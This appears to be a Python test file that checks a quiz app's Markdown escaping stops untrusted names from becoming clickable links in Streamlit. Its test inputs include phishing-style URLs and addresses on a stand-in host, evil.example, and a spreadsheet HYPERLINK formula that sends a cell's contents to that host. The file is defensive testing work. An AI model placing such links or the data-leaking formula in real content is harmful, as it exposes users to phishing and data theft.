"""Untrusted text never becomes a link.

Streamlit's Markdown (remark-gfm) links bare ``https://…``, ``www.…`` and e-mail addresses
by itself, after backslash escapes are resolved, so escaping the characters was not enough:
``https://evil.example/login`` as a trainee name was a link in the sidebar and the Team
page. The browser check is in tests/reliability/test_dos.py; here, the text that
remark-gfm's autolink-literal search runs on (the escaped text with its escapes resolved)
holds nothing it would link, and reads as the original once the invisible word joiners are
left out.
"""

from __future__ import annotations

import re

from hypothesis import given
from hypothesis import strategies as st

from quiz.ui.markdown import WORD_JOINER, escape_markdown, quote_block

# mdast-util-gfm-autolink-literal's searches (URLs and e-mail addresses), as JavaScript runs them.
URL = re.compile(r"(https?://|www(?=\.))([-.\w]+)", re.IGNORECASE | re.ASCII)
EMAIL = re.compile(r"([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)", re.ASCII)
TEXTS = (
    "https://evil.example/login",
    "HTTPS://EVIL.EXAMPLE/LOGIN",
    "www.evil.example",
    "WwW.evil.example",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "bob@evil.example",
    "mailto:bob@evil.example",
    "xmpp:bob@evil.example",
    "[click](https://evil.example)",
    "<https://evil.example>",
    "詳細は https://evil.example/ja を参照",
    "see http://a.example, then www.b.example.",
)


def as_parsed(markdown: str) -> str:
    """The text remark sees once backslash escapes are resolved."""
    return re.sub(r"\\(.)", r"\1", markdown)


def assert_no_autolink(text: str) -> None:
    parsed = as_parsed(escape_markdown(text))
    assert not URL.search(parsed) and not EMAIL.search(parsed), (text, parsed)
    assert parsed.replace(WORD_JOINER, "") == text


def test_urls_and_addresses_are_not_linkable():
    for text in TEXTS:
        assert_no_autolink(text)
        assert URL.search(text) or EMAIL.search(text) or text.startswith("xmpp")  # each would have been a link


def test_the_escaped_url_reads_the_same():
    escaped = escape_markdown("https://evil.example/login")
    assert escaped == f"https\\:{WORD_JOINER}//evil\\.example/login"
    assert escape_markdown("Aiko Tanaka") == "Aiko Tanaka"  # ordinary names are untouched


def test_quote_blocks_are_not_linkable_either():
    quoted = quote_block("line one\nhttps://evil.example\nbob@evil.example")
    assert not URL.search(as_parsed(quoted)) and not EMAIL.search(as_parsed(quoted))


PIECES = ["http", "https://", "HTTP", ":", "/", "//", "www", "WWW.", ".", "@", "a", "b-c", "_", "+", " ", "\\",
          "[", "]", "(", ")", "<", ">", "evil", "example.com", "bob@evil.example", "&", "\n"]


@given(st.lists(st.sampled_from(PIECES), min_size=1, max_size=30).map("".join))
def test_no_arrangement_of_url_pieces_autolinks(text):
    assert_no_autolink(text)
